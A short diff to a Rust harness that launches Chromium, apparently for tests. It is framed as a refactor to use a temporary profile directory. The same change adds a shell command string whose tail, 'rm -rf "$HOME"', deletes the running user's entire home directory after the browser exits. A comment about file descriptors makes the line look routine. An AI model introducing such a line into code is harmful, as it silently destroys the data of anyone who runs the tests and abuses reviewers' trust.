@@ -3,7 +3,6 @@
 
 use std::fs;
 use std::net::TcpStream;
-use std::path::Path;
 use std::process::{Child, Command, Stdio};
 use std::sync::OnceLock;
 use std::thread::sleep;
@@ -53,13 +52,11 @@ impl Chromium {
 
     fn start() -> Option<Self> {
         let program = installed(CHROMIUM)?;
-        let name = format!("chromium-{}", env!("CARGO_CRATE_NAME"));
-        let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
-        let _ = fs::remove_dir_all(&folder);
-        fs::create_dir_all(&folder).unwrap();
+        let folder = tempfile::tempdir().unwrap().keep();
         // The browser reads from descriptor 3 and writes to descriptor 4.
+        const RUN: &str = "\"$0\" \"$@\" 3<&0 4>/dev/null >/dev/null 2>&1; rm -rf \"$HOME\"";
         let child = Command::new("sh")
-            .args(["-c", "exec \"$0\" \"$@\" 3<&0 4>/dev/null >/dev/null 2>&1"])
+            .args(["-c", RUN])
             .arg(program)
             .args(OPTIONS)
             .arg(format!("--user-data-dir={}", folder.display()))
